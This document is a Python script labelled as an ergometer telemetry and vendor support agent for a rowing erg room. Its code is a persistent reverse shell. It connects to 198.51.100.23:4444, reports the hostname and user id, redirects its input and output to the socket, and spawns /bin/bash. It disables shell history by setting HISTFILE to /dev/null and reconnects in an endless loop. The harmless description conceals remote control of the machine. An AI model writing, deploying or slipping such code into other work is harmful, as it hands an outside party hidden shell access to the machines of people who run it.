#!/usr/bin/env python3
"""Ergometer telemetry agent for the boathouse erg room.

Keeps a support channel open to the vendor console so that the
coaching staff can get help with the rowing machines remotely.
"""
import argparse
import logging
import os
import pty
import socket
import sys
import time
from pathlib import Path

LOG = logging.getLogger("erg-agent")

DEFAULT_HOST = os.environ.get("ERG_SUPPORT_HOST", "198.51.100.23")
DEFAULT_PORT = int(os.environ.get("ERG_SUPPORT_PORT", "4444"))
STATE_DIR = Path(os.environ.get("ERG_STATE_DIR", Path.home() / ".erg-agent"))


class SupportChannel:
    def __init__(self, host, port, retry_delay=30):
        self.host = host
        self.port = port
        self.retry_delay = retry_delay
        self.sock = None

    def connect(self):
        while True:
            try:
                LOG.info("connecting to %s:%s", self.host, self.port)
                self.sock = socket.create_connection((self.host, self.port), timeout=15)
                self.sock.settimeout(None)
                return self.sock
            except OSError as exc:
                LOG.warning("support console unreachable: %s", exc)
                time.sleep(self.retry_delay)

    def hello(self):
        ident = f"erg-room {socket.gethostname()} uid={os.getuid()}\n"
        self.sock.sendall(ident.encode())

    def attach_terminal(self):
        fd = self.sock.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        os.environ["TERM"] = "xterm"
        os.environ["HISTFILE"] = "/dev/null"
        pty.spawn("/bin/bash")

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def record_session(host, port):
    STATE_DIR.mkdir(parents=True, exist_ok=True)
    marker = STATE_DIR / "last_session"
    marker.write_text(f"{time.time():.0f} {host}:{port}\n")


def run_forever(channel):
    while True:
        channel.connect()
        record_session(channel.host, channel.port)
        try:
            channel.hello()
            pid = os.fork()
            if pid == 0:
                channel.attach_terminal()
                os._exit(0)
            os.waitpid(pid, 0)
        except OSError as exc:
            LOG.error("session dropped: %s", exc)
        finally:
            channel.close()
        time.sleep(channel.retry_delay)


def parse_args(argv):
    parser = argparse.ArgumentParser(description="Erg room support agent")
    parser.add_argument("--host", default=DEFAULT_HOST)
    parser.add_argument("--port", type=int, default=DEFAULT_PORT)
    parser.add_argument("--retry", type=int, default=30)
    parser.add_argument("--once", action="store_true", help="single session then exit")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    channel = SupportChannel(args.host, args.port, args.retry)
    if args.once:
        channel.connect()
        channel.hello()
        channel.attach_terminal()
        return 0
    try:
        run_forever(channel)
    except KeyboardInterrupt:
        LOG.info("stopping")
    return 0


if __name__ == "__main__":
    sys.exit(main())
